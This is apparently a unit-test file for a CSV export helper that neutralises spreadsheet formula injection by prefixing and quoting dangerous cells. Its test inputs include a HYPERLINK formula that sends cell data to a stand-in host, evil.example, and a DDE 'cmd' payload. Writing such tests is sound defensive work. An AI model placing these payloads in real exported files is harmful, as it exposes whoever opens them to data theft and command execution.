import { parse } from 'csv-parse/sync';
import { neutralised, rowsToCsv } from './csv-response.interceptor.js';

describe('rowsToCsv', () => {
  const cellsOf = (csv: string): string[][] => parse(csv, { relax_column_count: true });

  it('prefixes a quote to every text cell a spreadsheet would run as a formula, and quotes it', () => {
    const texts = ['=HYPERLINK("http://evil.example/?x="&A1,"Click for refund")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '\tleading tab', '\rleading CR'];
    const sut = rowsToCsv(texts.map((text) => ({ text })));

    const lines = sut.split('\r\n');
    expect(lines[1]).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for refund"")"');
    expect(lines[3]).toBe('"\'-2+3"');
    expect(cellsOf(sut).slice(1).map(([cell]) => cell)).toEqual(texts.map((text) => `'${text}`));
  });

  it('keeps numbers numeric, negative ones included, and leaves harmless text alone', () => {
    const sut = rowsToCsv([{ ratio: -0.5, count: 3, label: 'refund late', asText: '-0.5', ok: true, none: null }]);
    expect(sut).toBe('ratio,count,label,asText,ok,none\r\n-0.5,3,refund late,-0.5,1,\r\n');
  });

  it('neutralises header cells and nested values as well', () => {
    const sut = cellsOf(rowsToCsv([{ '=cmd': 'x', nested: ['=1+1'] }]));
    expect(sut[0]).toEqual(["'=cmd", 'nested']);
    expect(sut[1]).toEqual(['x', '["=1+1"]']);
    expect(neutralised('@x')).toBe("'@x");
  });
});
